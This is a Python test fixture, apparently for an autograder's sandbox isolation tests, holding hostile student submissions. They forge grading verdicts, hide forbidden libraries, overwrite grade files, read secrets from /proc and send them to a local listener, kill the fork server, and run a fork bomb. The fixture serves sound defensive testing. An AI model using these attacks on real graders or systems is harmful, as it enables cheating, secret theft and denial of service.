"""Hostile students for tests/test_isolation.py: the code each one hands in.

Every attack is a notebook cell (or an answer) that runs inside the grader's sandboxed
child. The child can only talk to the test through its answers, so probes return
numbers: ``conv_output_shape`` of the ``leaks`` student returns one bit per probe in
``PROBES`` (1: the forbidden thing worked). Values the attacks need (paths, the port,
the secret) are passed in hex-encoded JSON, so no grader-looking word appears in a
cell's source (the grader must not be able to catch an attack by its words alone).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field

from autograder.core.course import ASSIGNMENTS
from bench import synth

SPEC = ASSIGNMENTS["01_conv_basics"]
MARKER = "agtest-marker"
"""Prefix of the argv marker of every process an attack starts (the test scans /proc for it)."""
FORGED = "ATTACK-WROTE-THIS"
"""Written into every file an attack rewrites."""

PROBES = (
    "environ_secret",
    "proc_environ_secret",
    "other_environ_secret",
    "hidden_checks",
    "solutions",
    "classmate_notebook",
    "out_dir",
    "home",
    "checkout",
    "sees_pytest",
    "foreign_processes",
    "signals_pytest",
    "network_listener",
    "write_out",
    "write_class",
    "loopback",
)
"""What the ``leaks`` student tries, in the order of its answer; every bit must be 0
except ``loopback`` (its own loopback interface), which must be 1."""


def params(**values) -> str:
    """A source line that defines ``P``, a dict of ``values``, without spelling them out."""
    return f"import json as _json\nP = _json.loads(bytes.fromhex({json.dumps(values).encode().hex()!r}).decode())\n"


NUMPY_CONV = """import numpy as np
def conv2d_manual(image, kernel, bias=0.0):
    image = np.asarray(image, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    kh, kw = kernel.shape[:2]
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i:i + kh, j:j + kw] * kernel) + bias
    return out
"""

TF_CONV = """import numpy as np
def _tf_conv(image, kernel, bias, tf):
    image = np.asarray(image, dtype=np.float32)
    kernel = np.asarray(kernel, dtype=np.float32)
    if image.ndim == 2:
        image, kernel = image[..., None], kernel[..., None]
    out = tf.nn.conv2d(image[None], kernel[..., None], strides=1, padding="VALID")
    return np.asarray(out)[0, :, :, 0].astype(np.float64) + bias
"""

WRONG = {
    "conv_output_shape": "def conv_output_shape(input_shape, filters, kernel_size, strides=1, padding='valid'):\n"
    "    return (0, 0, 0, 0)",
    "conv_weight_shapes": "def conv_weight_shapes(in_channels, filters, kernel_size):\n    return ((0, 0, 0, 0), (0,))",
    "conv2d_manual": "import numpy as np\ndef conv2d_manual(image, kernel, bias=0.0):\n"
    "    kh, kw = np.shape(kernel)[:2]\n"
    "    return np.zeros((np.shape(image)[0] - kh + 1, np.shape(image)[1] - kw + 1))",
    "conv_single_step": "def conv_single_step(window, kernel, bias=0.0):\n    return 0.0",
    "predict_test3": "def predict_test3():\n    return [[0.0, 0.0, 0.0], [0.0, 0.0, 0.0], [0.0, 0.0, 0.0]]",
}
"""A wrong answer for every graded function of the attacked assignment (a test checks it)."""

# --- 1. forged verdicts --------------------------------------------------------------

_FRAMES = """import io, os, struct
import numpy as np

def _frame(message, blobs=()):
    head = _json.dumps(message).encode()
    body = struct.pack('<Q', len(head)) + head + b''.join(struct.pack('<Q', len(b)) + b for b in blobs)
    return struct.pack('!i', len(body)) + body

def _channels():
    found = []
    for name in os.listdir('/proc/self/fd'):
        try:
            target = os.readlink(f'/proc/self/fd/{name}')
            with open(f'/proc/self/fdinfo/{name}') as info:
                flags = int(info.read().split('flags:')[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith('pipe:') and flags & 3 == 1:
            found.append(int(name))
    try:  # not the resource tracker's or the fork server's pipe: this attack is about verdicts
        from multiprocessing import forkserver, resource_tracker
        others = (resource_tracker._resource_tracker._fd, forkserver._forkserver._forkserver_alive_fd)
        found = [fd for fd in found if fd not in others]
    except Exception:
        pass
    return found

def _forge(frames):
    for fd in _channels():
        try:
            for frame in frames:
                os.write(fd, frame)
        except OSError:
            pass

def _ok(value, blobs=()):
    return {'value': value, 'error': None, 'mutated': False, 'forbidden': [], 'seconds': 0.0}
"""

FORGED_FRAMES = (
    _FRAMES
    + """
answers = [[1, 26, 26, 1], [32, 26, 26, 10], [4, 5, 4, 6], [[3, 3, 5, 10], [10]], [[2, 5, 3, 4], [4]]]
frames = [_frame({'event': 'result', 'index': i, 'outcome': _ok(v)}) for i, v in enumerate(answers)]
_forge(frames + [_frame({'event': 'done', 'tampered': []})])
"""
)

FORGED_REFERENCES = (
    _FRAMES
    + """
import importlib
_pkg = 'auto' + 'grader'
_course = importlib.import_module(_pkg + '.core.course')
_scoring = importlib.import_module(_pkg + '.judge.scoring')
_plain = importlib.import_module(_pkg + '.core.plain')
frames = []
for i, check in enumerate(_course.ASSIGNMENTS['01_conv_basics'].checks()):
    expected = _scoring.compute_reference(check).expected
    body = _plain.dumps({'event': 'result', 'index': i, 'outcome': _ok(expected)})
    frames.append(struct.pack('!i', len(body)) + body)
_forge(frames + [_frame({'event': 'done', 'tampered': []})])
"""
)

# --- 2. blanking the forbidden-library report on its way out ---------------------------

BLANK_FORBIDDEN = """import json, struct
import multiprocessing.connection as _mc
_send = _mc.Connection._send_bytes
def _clean(self, buf):
    data = bytes(buf)
    try:
        (n,) = struct.unpack_from('<Q', data, 0)
        head = json.loads(data[8:8 + n])
        if isinstance(head, dict):
            for key in ('tampered', 'forbidden'):
                if key in head:
                    head[key] = []
            if isinstance(head.get('outcome'), dict):
                head['outcome']['forbidden'] = []
            new = json.dumps(head).encode()
            data = struct.pack('<Q', len(new)) + new + data[8 + n:]
    except Exception:
        pass
    return _send(self, data)
_mc.Connection._send_bytes = _clean
for _cls in vars(_mc).values():
    if isinstance(_cls, type) and issubclass(_cls, _mc._ConnectionBase) and '_send_bytes' in vars(_cls):
        _cls._send_bytes = _clean
"""

TF_DIRECT = (
    TF_CONV
    + """import tensorflow as tf
def conv2d_manual(image, kernel, bias=0.0):
    return _tf_conv(image, kernel, bias, tf)
"""
)

# --- 3. forbidden libraries where a profiler of the calling thread cannot see them -------

TF_THREAD = (
    TF_CONV
    + """import threading
import tensorflow as tf
def conv2d_manual(image, kernel, bias=0.0):
    box = []
    worker = threading.Thread(target=lambda: box.append(_tf_conv(image, kernel, bias, tf)))
    worker.start()
    worker.join()
    return box[0]
"""
)

TF_POOL = (
    TF_CONV
    + """from concurrent.futures import ThreadPoolExecutor
import tensorflow as tf
_pool = ThreadPoolExecutor(1)
def conv2d_manual(image, kernel, bias=0.0):
    return _pool.submit(_tf_conv, image, kernel, bias, tf).result()
"""
)

TF_FORK = (
    TF_CONV
    + """import io, os, signal
import tensorflow as tf
def conv2d_manual(image, kernel, bias=0.0):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            signal.alarm(9)
            os.close(r)
            buf = io.BytesIO()
            np.save(buf, _tf_conv(image, kernel, bias, tf))
            os.write(w, buf.getvalue())
        finally:
            os._exit(0)
    os.close(w)
    chunks = []
    while True:
        chunk = os.read(r, 1 << 16)
        if not chunk:
            break
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    return np.load(io.BytesIO(b''.join(chunks)))
"""
)

_SERVER = r"""
import json, signal, sys
signal.alarm(120)
import numpy as np
import tensorflow as tf
print('ready', flush=True)
for line in sys.stdin:
    req = json.loads(line)
    image = np.asarray(req['image'], dtype=np.float32)
    kernel = np.asarray(req['kernel'], dtype=np.float32)
    if image.ndim == 2:
        image, kernel = image[..., None], kernel[..., None]
    out = tf.nn.conv2d(image[None], kernel[..., None], strides=1, padding='VALID')
    print(json.dumps((np.asarray(out)[0, :, :, 0] + req['bias']).tolist()), flush=True)
"""

TF_SUBPROCESS_START = f"""import os, select, subprocess, sys
_helper = subprocess.Popen(
    [sys.executable, '-c', {_SERVER!r}], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    stderr=subprocess.DEVNULL, text=True, env={{**os.environ, 'TF_CPP_MIN_LOG_LEVEL': '3'}},
)
_ready = []
def _wait_ready(seconds):
    if not _ready and select.select([_helper.stdout], [], [], seconds)[0]:
        _ready.append(_helper.stdout.readline())
"""

TF_SUBPROCESS_WAIT = "_wait_ready(4.5)"

TF_SUBPROCESS = """import json
import numpy as np
def conv2d_manual(image, kernel, bias=0.0):
    _wait_ready(9.0)
    req = {'image': np.asarray(image, dtype=float).tolist(), 'kernel': np.asarray(kernel, dtype=float).tolist(),
           'bias': float(bias)}
    _helper.stdin.write(json.dumps(req) + '\\n')
    _helper.stdin.flush()
    return np.array(json.loads(_helper.stdout.readline()))
"""

TF_RENAMED = (
    TF_CONV
    + """import tensorflow as numpy_helpers
def conv2d_manual(image, kernel, bias=0.0):
    return _tf_conv(image, kernel, bias, numpy_helpers)
"""
)

TF_ALIAS = (
    TF_CONV
    + """import sys
sys.modules['fast_numpy'] = sys.modules['tensor' + 'flow']
import fast_numpy
def conv2d_manual(image, kernel, bias=0.0):
    return _tf_conv(image, kernel, bias, fast_numpy)
"""
)

# --- 4, 13. processes that try to outlive the grader ----------------------------------

_DETACH = """import os, sys
def _detach(code, *argv):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, '-c', code, *argv])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
"""

_REWRITER = """import os, sys, time, json
P = json.loads(bytes.fromhex(sys.argv[2]).decode())
deadline = time.time() + 120
while time.time() < deadline and not os.path.exists(P['wait_for']):
    time.sleep(0.2)
time.sleep(1.0)
for path, text in P['targets'].items():
    try:
        with open(path, 'w') as f:
            f.write(text)
    except OSError:
        pass
"""


def detached_rewriter(marker: str, wait_for: str, targets: dict[str, str]) -> str:
    """A cell that double-forks a session leader which, once ``wait_for`` exists (the
    batch has written grades.csv), overwrites each target path with its text."""
    argument = json.dumps({"wait_for": wait_for, "targets": targets}).encode().hex()
    return _DETACH + f"_detach({_REWRITER!r}, {marker!r}, {argument!r})\n"


def sleeper(marker: str) -> str:
    """A cell that leaves a process in a new session, sleeping 120 s."""
    return (
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', "
        f"{marker!r}], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)\n"
    )


# --- 6, 7. writing where the grader reads -----------------------------------------------

OVERWRITE_NOTEBOOK = """for path in P['victims']:
    try:
        with open(path, 'w') as f:
            f.write('{"cells": [], "note": "' + P['forged'] + '"}')
    except OSError:
        pass
"""

PATCH_COMPARE = """import importlib.util
_origin = importlib.util.find_spec('auto' + 'grader.core.compare').origin
try:
    with open(_origin, 'a') as f:
        f.write('\\nallclose = equal = lambda *a, **k: None  # ' + P['forged'] + '\\nwithin = lambda *a, **k: allclose\\n')
except OSError:
    pass
"""

# --- 8. denial: the fork server -----------------------------------------------------------

STOP_FORKSERVER = """import os, signal
def _cmdline(pid):
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as f:
            return f.read()
    except OSError:
        return b''
def _environ(pid):
    try:
        with open(f'/proc/{pid}/environ', 'rb') as f:
            return f.read()
    except OSError:
        return b''
def _ppid(pid):
    try:
        with open(f'/proc/{pid}/status') as f:
            return int(next(line for line in f if line.startswith('PPid:')).split()[1])
    except (OSError, StopIteration, ValueError):
        return 0
_me = os.getpid()
for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    # only the fork server of this test's batch (its environment holds the run token)
    if _pid == _me or b'forkserver' not in _cmdline(_pid) or P['token'].encode() not in _environ(_pid):
        continue
    if b'forkserver' in _cmdline(_ppid(_pid)):
        continue  # a child of the fork server, not the server
    try:
        os.kill(_pid, getattr(signal, P['signal']))
    except OSError:
        pass
"""

JUNK_PIPES = """import os
for _name in os.listdir('/proc/self/fd'):
    try:
        if os.readlink(f'/proc/self/fd/{_name}').startswith('pipe:'):
            os.write(int(_name), b'junk' * 16)
    except OSError:
        pass
"""
"""Writes junk into every inherited pipe (the fork server's liveness pipe among them today)."""

# --- 9. honest code with suspicious words ------------------------------------------------

INNOCENT_WORDS = """# The autograder said my shapes were off, so I re-did them by hand.
# I read about sys.setprofile, ctypes and frame.f_globals, but this cell does not use them.
NOTE = "autograder feedback: shapes off; no setprofile, no ctypes, no f_globals here"
"""

INNOCENT_CONV = "# no ctypes or setprofile here, as the autograder asks\n" + NUMPY_CONV

PHRASE = "must compute with NumPy only"
"""The words the judge once searched the child's error text for."""

PHRASE_CELL = f"""print("Rule of this notebook: conv2d_manual {PHRASE}.")
raise RuntimeError("reminder to myself: conv2d_manual {PHRASE}")
"""
"""A cell that prints the phrase and fails with it (a failed cell costs nothing by itself)."""

PHRASE_CONV = f"""import numpy as np
RULE = "conv2d_manual {PHRASE}"  # {PHRASE}
def conv2d_manual(image, kernel, bias=0.0):
    print(RULE)
    try:
        raise ValueError(RULE)
    except ValueError:
        pass
    image = np.asarray(image, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    kh, kw = kernel.shape[:2]
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i:i + kh, j:j + kw] * kernel) + bias
    return out
"""
"""An honest answer with the phrase in a comment, a string, its output and an exception."""

READ_ONLY_CONV = f"""import numpy as np
def conv2d_manual(image, kernel, bias=0.0):
    image[...] = np.asarray(image)  # in place, as the notebook allows: {PHRASE}
    image = np.asarray(image, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    kh, kw = kernel.shape[:2]
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = np.sum(image[i:i + kh, j:j + kw] * kernel) + bias
    return out
"""
"""The issue's case: an honest answer whose in-place line raises on a read-only input,
with the phrase in that line's comment: only the read-only check may fail."""

HELPER_WITH_IMPORT = """from autograder.inline import check  # to try my functions as I go
import numpy as np


def window_sum(patch, kernel):
    return float(np.sum(np.asarray(patch, dtype=np.float64) * np.asarray(kernel, dtype=np.float64)))
"""

CONV_WITH_HELPER = """import numpy as np
def conv2d_manual(image, kernel, bias=0.0):
    image = np.asarray(image, dtype=np.float64)
    kernel = np.asarray(kernel, dtype=np.float64)
    kh, kw = kernel.shape[:2]
    out = np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))
    for i in range(out.shape[0]):
        for j in range(out.shape[1]):
            out[i, j] = window_sum(image[i:i + kh, j:j + kw], kernel) + bias
    return out
"""

# --- 10, 11. leaks: one bit per probe -----------------------------------------------------

LEAK_PROBES = """import os, socket

def _readable(path):
    with open(path, 'rb') as f:
        return len(f.read(1)) > 0

def _listable(path):
    return len(os.listdir(path)) > 0

def _read(path):
    try:
        with open(path, 'rb') as f:
            return f.read()
    except OSError:
        return b''

def _any(test, paths):
    for path in paths:
        try:
            if test(path):
                return True
        except OSError:
            pass
    return False

def _pids():
    return [int(p) for p in os.listdir('/proc') if p.isdigit()]

def _ppid(pid):
    for line in _read(f'/proc/{pid}/status').decode(errors='replace').splitlines():
        if line.startswith('PPid:'):
            return int(line.split()[1])
    return 0

def _other_environ():
    return any(P['secret'].encode() in _read(f'/proc/{p}/environ') for p in _pids() if p != os.getpid())

def _foreign():
    related, pid = {os.getpid()}, os.getpid()
    while pid > 1:
        pid = _ppid(pid)
        related.add(pid)
    return len([p for p in _pids() if p not in related and _ppid(p) not in related]) > 2

def _listener():
    with socket.create_connection(('127.0.0.1', P['port']), timeout=1.0) as s:
        s.sendall(('LEAKED ' + P['secret']).encode())
    return True

def _write(folder):
    path = os.path.join(folder, f'.probe-{os.getpid()}')
    with open(path, 'w') as f:
        f.write(P['forged'])
    os.remove(path)
    return True

def _loopback():
    with socket.socket() as server:
        server.bind(('127.0.0.1', 0))
        server.listen(1)
        with socket.create_connection(server.getsockname(), timeout=1.0) as client:
            peer, _ = server.accept()
            with peer:
                client.sendall(b'ok')
                return peer.recv(2) == b'ok'

_TRIES = {
    'environ_secret': lambda: any(P['secret'] in v for v in os.environ.values()),
    'proc_environ_secret': lambda: P['secret'].encode() in _read('/proc/self/environ'),
    'other_environ_secret': _other_environ,
    'hidden_checks': lambda: _any(_listable, P['hidden']),
    'solutions': lambda: _any(_readable, P['solutions']),
    'classmate_notebook': lambda: _readable(P['classmate']),
    'out_dir': lambda: _listable(P['out']),
    'home': lambda: _readable(P['home_file']),
    'checkout': lambda: _readable(P['checkout'] + '/README.md'),  # the venv may lie inside: its path shows
    'sees_pytest': lambda: any(b'pytest' in _read(f'/proc/{p}/cmdline') for p in _pids()),
    'foreign_processes': _foreign,
    'signals_pytest': lambda: os.kill(P['pytest_pid'], 0) is None,
    'network_listener': _listener,
    'write_out': lambda: _write(P['out']),
    'write_class': lambda: _write(P['class']),
    'loopback': _loopback,
}

def _probe():
    bits = []
    for name in P['probes']:
        try:
            bits.append(1 if _TRIES[name]() else 0)
        except Exception:
            bits.append(0)
    return bits

_AT_CELL = _probe()
"""

LEAK_ANSWER = """def conv_output_shape(input_shape, filters, kernel_size, strides=1, padding='valid'):
    return tuple(max(a, b) for a, b in zip(_AT_CELL, _probe()))
"""

STRING_LEAK = """import os
def conv_weight_shapes(in_channels, filters, kernel_size):
    found = os.environ.get('AUTOGRADER_SECRET', '')
    return 'LEAK' + 'MARK-' + P['token'] + '-' + found
"""


# --- the class -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Student:
    """One submission: a base (solved, stubs or wrong), replaced answers, extra cells
    right after the imports (``cells``) and at the end (``tail``)."""

    base: str = "solved"
    replace: dict[str, str] = field(default_factory=dict)
    cells: tuple[str, ...] = ()
    tail: tuple[str, ...] = ()
    demos: bool = True
    """Keep the notebook's TensorFlow demo cells (False: no TensorFlow op runs before the answers)."""


def notebook(student: Student) -> dict:
    if student.base == "stubs":
        nb = synth.fill(synth.release(SPEC), student.replace)
    else:
        nb = synth.solved(SPEC, {**(WRONG if student.base == "wrong" else {}), **student.replace})
    nb = copy.deepcopy(nb)
    if not student.demos:
        code = [c for c in nb["cells"] if c.get("cell_type") == "code"]
        for cell in code[1:]:
            if not (cell.get("metadata") or {}).get("nbgrader", {}).get("grade_id"):
                cell["source"] = "pass"
    for i, source in enumerate(student.cells):
        nb["cells"].insert(2 + i, _code_cell(source, f"attack-{i}"))
    for i, source in enumerate(student.tail):
        nb["cells"].append(_code_cell(source, f"attack-tail-{i}"))
    return nb


def _code_cell(source: str, cell_id: str) -> dict:
    return {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "id": cell_id,
        "source": source,
    }


def students(ctx: dict) -> dict[str, Student]:
    """The whole class. ``ctx`` holds what the attacks need to know: ``out``, ``class``
    (folders), ``token``, ``secret``, ``port``, ``hidden``, ``solutions``, ``checkout``,
    ``home``, ``pytest_pid``."""
    root, out, token = ctx["class"], ctx["out"], ctx["token"]
    nb = f"01_conv_basics/{SPEC.notebook}"

    def p(**values) -> str:
        return params(forged=FORGED, token=token, **values)

    def forged_results(student: str) -> str:
        return json.dumps(
            {
                "score": 15.0 if student != "honest" else 0.0,
                "max_score": 15.0,
                "tests": [],
                "extra_data": {"student": student, "assignment": "01_conv_basics", "grader_error": None, "notes": []},
                "forged": FORGED,
            }
        )

    own = f"{out}/detached_own/01_conv_basics/results.json"
    honest = f"{out}/honest/01_conv_basics/results.json"
    grades = f"{out}/grades.csv"
    leak_params = p(
        secret=ctx["secret"],
        port=ctx["port"],
        hidden=ctx["hidden"],
        solutions=ctx["solutions"],
        classmate=f"{root}/honest/{nb}",
        out=out,
        home_file=ctx["home_file"],
        checkout=ctx["checkout"],
        pytest_pid=ctx["pytest_pid"],
        probes=list(PROBES),
        **{"class": root},
    )
    quiet = {"demos": False}
    return {
        "honest": Student(),
        "stubs": Student(base="stubs"),
        "zz_victim": Student(),
        # 1, 2: wrong scores
        "forged_frames": Student(base="stubs", cells=(p() + FORGED_FRAMES,)),
        "forged_references": Student(base="stubs", cells=(p() + FORGED_REFERENCES,)),
        "blank_forbidden": Student(cells=(BLANK_FORBIDDEN,), replace={"conv2d_manual": TF_DIRECT}, **quiet),
        # 3: forbidden libraries out of the profiler's sight
        "tf_thread": Student(replace={"conv2d_manual": TF_THREAD}, **quiet),
        "tf_pool": Student(replace={"conv2d_manual": TF_POOL}, **quiet),
        "tf_fork": Student(replace={"conv2d_manual": TF_FORK}, **quiet),
        "tf_subprocess": Student(
            cells=(TF_SUBPROCESS_START,), tail=(TF_SUBPROCESS_WAIT,), replace={"conv2d_manual": TF_SUBPROCESS}, **quiet
        ),
        "tf_renamed": Student(replace={"conv2d_manual": TF_RENAMED}, **quiet),
        "tf_alias": Student(replace={"conv2d_manual": TF_ALIAS}, **quiet),
        # 4, 6, 7: outputs and inputs of the grader
        "detached_own": Student(
            cells=(detached_rewriter(f"{MARKER}-{token}-own", grades, {own: forged_results("detached_own")}),), **quiet
        ),
        "detached_classmate": Student(
            cells=(
                detached_rewriter(
                    f"{MARKER}-{token}-classmate",
                    grades,
                    {honest: forged_results("honest"), grades: f"student,total\nhonest,0\n{FORGED},15\n"},
                ),
            ),
            **quiet,
        ),
        "overwrite_notebook": Student(cells=(p(victims=[f"{root}/zz_victim/{nb}"]) + OVERWRITE_NOTEBOOK,), **quiet),
        "patch_compare": Student(cells=(p() + PATCH_COMPARE,), **quiet),
        # 8: denial
        "denial_stop": Student(cells=(p(signal="SIGSTOP") + STOP_FORKSERVER,), **quiet),
        "denial_kill": Student(cells=(p(signal="SIGKILL") + STOP_FORKSERVER,), **quiet),
        "denial_pipes": Student(cells=(JUNK_PIPES,), **quiet),
        # 9: false accusations
        "innocent_words": Student(cells=(INNOCENT_WORDS,), replace={"conv2d_manual": INNOCENT_CONV}),
        "helper_with_import": Student(cells=(HELPER_WITH_IMPORT,), replace={"conv2d_manual": CONV_WITH_HELPER}),
        "phrase_words": Student(cells=(PHRASE_CELL,), replace={"conv2d_manual": PHRASE_CONV}),
        "phrase_read_only": Student(replace={"conv2d_manual": READ_ONLY_CONV}),
        # 10, 11, 12, 13: leaks and leftovers
        "leaks": Student(cells=(leak_params + LEAK_PROBES,), replace={"conv_output_shape": LEAK_ANSWER}, **quiet),
        "string_leak": Student(cells=(p(),), replace={"conv_weight_shapes": STRING_LEAK}, **quiet),
        "sleeper": Student(cells=(sleeper(f"{MARKER}-{token}-sleeper"),), **quiet),
    }


# --- between sandboxes: signals and process budgets ----------------------------------------------

SIBLING_ATTACKS = {
    "kill_group": "time.sleep(1.5)\nos.kill(0, signal.SIGKILL)",
    "stop_group": "time.sleep(1.5)\nos.kill(0, signal.SIGSTOP)",
    "kill_all": "time.sleep(1.5)\nos.kill(-1, signal.SIGKILL)\ntime.sleep(3)",
    "stop_all": "time.sleep(1.5)\nos.kill(-1, signal.SIGSTOP)\ntime.sleep(3)",
    "fork_bomb": (
        "import resource\n"
        "for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE):\n"
        "    try:\n"
        "        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    except (ValueError, OSError):\n"
        "        pass\n"
        "while True:\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(4)\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        break\n"
        "time.sleep(4)"
    ),
}
"""Cells that reach for sandboxes graded at the same time (each starts with ``import os,
signal, time``); the bystander, graded beside them, must not notice."""

BYSTANDER = (
    "import os, time\n"
    "done = 0\n"
    "for _ in range(4):\n"
    "    time.sleep(0.5)\n"
    "    kids = []\n"
    "    for _ in range(20):\n"
    "        pid = os.fork()\n"
    "        if pid == 0:\n"
    "            time.sleep(0.3)\n"
    "            os._exit(0)\n"
    "        kids.append(pid)\n"
    "    done += sum(os.waitpid(k, 0)[1] == 0 for k in kids)\n"
    "print('bystander', done)"
)
"""An honest cell that needs 20 processes at a time, four times over about 3 s."""

SIBLINGS = """
import json, sys, threading
from autograder.execute import isolation, sandbox
from autograder.execute.forkserver import ForkServer
sys.path.insert(0, sys.argv[1])
import attacks

limits = sandbox.Limits(cell_seconds=20.0, submission_seconds=60.0, processes=64)
server = ForkServer("numpy")
server.warm_up()
runs = {}

def grade(name, source):
    runs[name] = sandbox.run_submission({"numpy": server}, [(0, source)], [], limits)

jobs = {f"attack_{n}": "import os, signal, time\\n" + s for n, s in attacks.SIBLING_ATTACKS.items()}
jobs.update({"bystander_1": attacks.BYSTANDER, "bystander_2": attacks.BYSTANDER})
threads = [threading.Thread(target=grade, args=item) for item in jobs.items()]
for t in threads:
    t.start()
for t in threads:
    t.join()
server.stop()
cells = {n: {"error": r.cells[0].error and r.cells[0].error.message, "output": r.cells[0].output}
         for n, r in runs.items() if 0 in r.cells}
print(json.dumps({"budget": isolation.process_budget(), "cells": cells}))
"""
"""A program (run as the grader's user, with the tests folder as its first argument): the
attacks and two bystanders in sandboxes of one NumPy fork server, all at once; prints
each cell's error and output as JSON."""


# --- "absent" on every interpreter layout ---------------------------------------------------------

SCIPY_ANYWHERE = """
import glob, importlib.util, os, sys
import numpy as np
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_UnavailableFinder"]
folders = [p for p in glob.glob("/**/*-packages", recursive=False)]
for root in P["roots"] + [sys.prefix, sys.base_prefix]:
    folders += glob.glob(os.path.join(root, "lib*", "python3*", "*-packages")) + [root]
print("seen", os.path.exists(os.path.join(P["copy"], "scipy", "__init__.py")))
for folder in dict.fromkeys(folders + sys.path):
    for name in [m for m in sys.modules if m == "scipy" or m.startswith("scipy.")]:
        del sys.modules[name]
    saved = sys.path[:]
    sys.path.insert(0, folder)
    try:
        from scipy.signal import convolve2d
        convolve2d(np.ones((3, 3)), np.ones((2, 2)))
        print("BREACH import", folder)
    except Exception:
        pass
    finally:
        sys.path[:] = saved
    for so in glob.glob(os.path.join(folder, "scipy", "*", "_sigtools*.so")):
        try:
            spec = importlib.util.spec_from_file_location("_sigtools", so)
            spec.loader.exec_module(importlib.util.module_from_spec(spec))
            print("BREACH file", so)
        except Exception:
            pass
"""
"""A NumPy-only child's cell that looks for SciPy's signal module in every folder it can
think of (``P["roots"]``: the test's interpreter layout; ``P["copy"]``: a folder on its
path that holds a copy of SciPy), the placeholders removed; prints BREACH lines."""

ABSENT = """
import json, sys
from autograder.execute import sandbox
from autograder.execute.forkserver import ForkServer
source = sys.argv[1]
server = ForkServer("numpy")
try:
    run = sandbox.run_submission({"numpy": server}, [(0, source)], [], sandbox.Limits(cell_seconds=60.0))
finally:
    server.stop()
cell = run.cells.get(0)
print(json.dumps({"error": cell.error and cell.error.message, "output": cell.output} if cell else None))
"""
"""A program run by the test's interpreter: the cell given in a NumPy-only child."""
